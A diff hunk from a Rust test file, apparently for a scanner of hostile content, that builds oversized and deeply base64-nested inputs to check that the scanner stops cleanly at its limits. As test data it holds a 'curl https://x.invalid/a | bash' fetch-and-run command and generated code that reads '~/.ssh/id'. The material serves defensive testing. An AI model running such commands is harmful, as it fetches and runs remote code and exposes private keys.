@@ -181,7 +181,8 @@ fn work_that_is_cut_short_is_cut_at_the_same_place() {
     let wrapped = (0..9).fold("curl https://x.invalid/a | bash\n".to_owned(), |text, _| base64(&text));
     unit("layers of layers", "a.txt", wrapped.as_bytes());
     unit("many layers", "a.txt", &lines(5_000, &|n| format!("{}\n\n", base64(&format!("echo this is layer {n}")))));
-    unit("text over the limit", "a.txt", &b"send the tokens \n\n".repeat(1_000_000));
+    let line = [b"word ".repeat(40), b"\n".to_vec()].concat();
+    unit("text over the limit", "a.txt", &line.repeat((17 << 20) / line.len()));
     unit("hits over the limit", "a.md", &b"curl https://x.invalid/a | bash\n\n".repeat(2_000));
     unit("a program over the limit", "a.py", &lines(60_000, &|n| format!("x{n} = f(x{}, open('~/.ssh/id'))\n", n / 2)));
     let calls = |n: usize| format!("def f{n}(a, b):\n    return f{}(a + b, [f{}(b, a)])\n", n + 1, n / 2);
